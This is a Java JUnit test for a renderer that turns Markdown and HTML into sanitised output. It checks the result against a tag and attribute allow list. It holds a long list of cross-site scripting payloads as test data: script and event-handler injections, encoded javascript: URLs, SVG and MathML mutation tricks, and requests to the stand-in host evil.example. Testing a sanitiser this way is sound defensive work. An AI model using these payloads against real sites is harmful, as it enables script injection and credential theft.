package org.mentordirectory.content.read;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Comment;
import org.jsoup.nodes.DataNode;
import org.jsoup.nodes.Element;
import org.jsoup.nodes.Node;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Of HTML that is made to attack, nothing survives but what is allowed. */
class HostileHtmlTest {
  private static final Set<String> TAGS =
      Set.of(
          ("a abbr b blockquote br cite code dd del dfn div dl dt em h1 h2 h3 h4 h5 h6 hr i ins kbd"
                  + " li mark ol p pre q s section small span strong sub sup table tbody td th thead"
                  + " tr ul")
              .split(" "));

  private static final String ROOT = "./";

  private static final Map<String, String> ATTRIBUTES =
      Map.of(
          "href",
              "https:[^\\x00-\\x1F\\\\]*|mailto:[^\\x00-\\x1F]*|#.*"
                  + "|\\./(?![/\\\\]|[a-zA-Z][a-zA-Z0-9+.-]*:)[^\\x00-\\x1F\\\\]*",
          "rel", "nofollow noopener",
          "title", "(?s).*",
          "lang", "(?s).*",
          "start", "\\d{1,9}",
          "class", "align-right|align-center|task",
          "tabindex", "0",
          "id", "[\\p{L}\\p{M}\\p{N}\\p{Pc}-]+");

  private ContentFolder folder;

  @BeforeEach
  void makeFolder(@TempDir Path root) {
    folder = new ContentFolder(root);
  }

  static Stream<String> attacks() {
    List<String> attacks =
        List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<script >alert(1)</script\t\n bar>",
            "<script/x>alert(1)</script>",
            "<<script>alert(1)//<</script>",
            "<script>",
            "</script><script>alert(1)",
            "<img src=x onerror=alert(1)>",
            "<img src=x onerror=alert(1)//",
            "<img/src=x/onerror=alert(1)>",
            "<img \"\"\"><script>alert(1)</script>\">",
            "<image src=x onerror=alert(1)>",
            "<b onmouseover=alert(1)>x</b>",
            "<b onmouseover=\n\"alert(1)\">x</b>",
            "<b ONCLICK=alert(1)>x</b>",
            "<a/onclick=alert(1)>x</a>",
            "<p style=\"background:url(javascript:alert(1))\">x</p>",
            "<div style=\"position:fixed;inset:0\">x</div>",
            "<a href=javascript:alert(1)>x</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\" javascript:alert(1)\">x</a>",
            "<a href=\"\u0001javascript:alert(1)\">x</a>",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            "<a href=\"java\nscript:alert(1)\">x</a>",
            "<a href=\"java&#10;script:alert(1)\">x</a>",
            "<a href=\"java&Tab;script:alert(1)\">x</a>",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
            "<a href=\"&#0000106avascript:alert(1)\">x</a>",
            "<a href=\"javascript&colon;alert(1)\">x</a>",
            "<a href=\"javascript&#58;alert(1)\">x</a>",
            "<a href=\"/javascript:alert(1)\">x</a>",
            "<a href=\"/java&#10;script:alert(1)\">x</a>",
            "<a href=\"./javascript:alert(1)\">x</a>",
            "<a href=\"//evil.example\">x</a>",
            "<a href=\"/\\evil.example\">x</a>",
            "<a href=\"\\\\evil.example\">x</a>",
            "<a href=\"/&#9;/evil.example\">x</a>",
            "<a href=\"https:&#10;//evil.example\">x</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<a href=\"blob:https://x\">x</a>",
            "<a href=\"file:///etc/passwd\">x</a>",
            "<a href=\"view-source:https://x\">x</a>",
            "<a href=x target=_blank ping=https://evil.example rel=opener download>x</a>",
            "[x](javascript:alert(1))",
            "[x](JAVASCRIPT:alert(1))",
            "[x](&#106;avascript:alert(1))",
            "[x](javascript&#58;alert(1))",
            "[x](\\javascript:alert(1))",
            "[x](<java&#10;script:alert(1)>)",
            "[x](data:text/html,x)",
            "[x](vbscript:x)",
            "<javascript:alert(1)>",
            "<data:text/html,x>",
            "![x](javascript:alert(1))",
            "![x](x \"onerror=alert(1)\")",
            "![\" onerror=alert(1) x=\"](x)",
            "[x](https://example.org \"\\\" onclick=alert(1) x=\\\"\")",
            "[x]\n\n[x]: javascript:alert(1)",
            "<https://example.org/\"onmouseover=alert(1)>",
            "https://example.org/\"onmouseover=alert(1)//",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
            "<svg><foreignObject><iframe src=https://evil.example></foreignObject></svg>",
            "<svg><use href=\"data:image/svg+xml,x#y\"/></svg>",
            "<svg><animate attributeName=href values=javascript:alert(1)>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
            "<math><style><!--</style><img src=x onerror=alert(1)>--></style></math>",
            "<math href=\"javascript:alert(1)\">x</math>",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<math><annotation-xml encoding=\"text/html\"><style><img src onerror=alert(1)>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<style>body{display:none}",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<iframe src=https://evil.example></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<iframe src=javascript:alert(1)>",
            "<object data=javascript:alert(1)></object>",
            "<embed src=javascript:alert(1)>",
            "<applet code=x></applet>",
            "<base href=https://evil.example/>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
            "<form action=https://evil.example><input name=password><button>go</button></form>",
            "<input type=image src=x onerror=alert(1)>",
            "<input type=checkbox autofocus onfocus=alert(1)>",
            "<button formaction=javascript:alert(1)>x</button>",
            "<textarea><script>alert(1)</script></textarea>",
            "<select><option><script>alert(1)</script>",
            "<title><script>alert(1)</script></title>",
            "<template><script>alert(1)</script></template>",
            "<xmp><script>alert(1)</script></xmp>",
            "<plaintext><script>alert(1)</script>",
            "<listing><img src=x onerror=alert(1)></listing>",
            "<noembed><img src=x onerror=alert(1)></noembed>",
            "<noframes><img src=x onerror=alert(1)></noframes>",
            "<frameset onload=alert(1)><frame src=x>",
            "<body onload=alert(1)>",
            "<html onclick=alert(1)>",
            "<head><script>alert(1)</script></head>",
            "<video src=x onerror=alert(1)></video>",
            "<video><source onerror=alert(1)></video>",
            "<audio src=x onerror=alert(1)>",
            "<details open ontoggle=alert(1)>x</details>",
            "<dialog open>x</dialog>",
            "<marquee onstart=alert(1)>x</marquee>",
            "<bgsound src=javascript:alert(1)>",
            "<isindex action=javascript:alert(1) type=image>",
            "<keygen autofocus onfocus=alert(1)>",
            "<custom-element onclick=alert(1)>x</custom-element>",
            "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
            "<?xml version=\"1.0\"?><script>alert(1)</script>",
            "<?php echo '<script>alert(1)</script>'; ?>",
            "<!DOCTYPE html><script>alert(1)</script>",
            "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
            "<!--><script>alert(1)</script>-->",
            "<!--[if IE]><script>alert(1)</script><![endif]-->",
            "<!-- a --!><img src=x onerror=alert(1)> -->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
            "<a title=\"<img src=x onerror=alert(1)>\">x</a>",
            "<a title='\"><img src=x onerror=alert(1)>'>x</a>",
            "<a href=\"https://example.org/`><img src=x onerror=alert(1)>\">x</a>",
            "<p title=\"`onmouseover=alert(1)\">x</p>",
            "<p lang=\"\\\" onclick=alert(1)\">x</p>",
            "<p class=\"admin\" id=\"main\" name=\"x\" slot=\"y\" is=\"z\">x</p>",
            "<a name=getElementById id=location>x</a>",
            "<p hidden inert contenteditable tabindex=1 accesskey=x draggable=true>x</p>",
            "<p data-x=1 aria-label=y role=alert>x</p>",
            "<table background=javascript:alert(1)><tr><td background=x>x</td></tr></table>",
            "<td align=\"right&quot; onclick=&quot;alert(1)\">x</td>",
            "<table><tr><td align=\"x\" onclick=alert(1)>x</td></tr></table>",
            "<ol start=\"javascript:1\"><li value=x>x</li></ol>",
            "<div><p><a><div><a href=x>",
            "</div></section></main></body></html>",
            "</p></div><h1 id=x onclick=y>z",
            "<a href=\"x\"><a href=\"javascript:y\">z</a></a>",
            "<b><script>alert(1)</b></script>",
            "<p><svg><p><style><a title=\"</style><img src onerror=alert(1)>\">",
            "<div id=\"</div><script>alert(1)</script>\">",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "\\<script>alert(1)\\</script>",
            "`<script>alert(1)</script>`",
            "```html\n<script>alert(1)</script>\n```",
            "```\" onclick=alert(1)\nx\n```",
            "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
            "# <script>alert(1)</script>",
            "# x\" onclick=\"alert(1)",
            "[^x<script>]\n\n[^x<script>]: <script>alert(1)</script>",
            "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
            "- [x] <script>alert(1)</script>",
            "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
            "\u02BAonclick=alert(1)",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-");
    var all = new ArrayList<>(attacks);
    for (String attack : attacks) {
      all.add("text " + attack + " text");
      all.add("<div>\n" + attack + "\n</div>");
      all.add("> - " + attack);
    }
    return all.stream();
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void nothingSurvivesButWhatIsAllowed(String attack) {
    String html = folder.body(attack + "\n").htmlFrom(ROOT);
    Element body = Jsoup.parseBodyFragment(html).body();
    for (Element element : body.select("body *")) {
      assertThat(TAGS).as(html).contains(element.normalName());
      for (Attribute attribute : element.attributes()) {
        assertThat(ATTRIBUTES).as(html).containsKey(attribute.getKey());
        assertThat(attribute.getValue()).as(html).matches(ATTRIBUTES.get(attribute.getKey()));
      }
    }
    body.traverse(
        (Node node, int depth) ->
            assertThat(node).as(html).isNotInstanceOfAny(Comment.class, DataNode.class));
  }
}
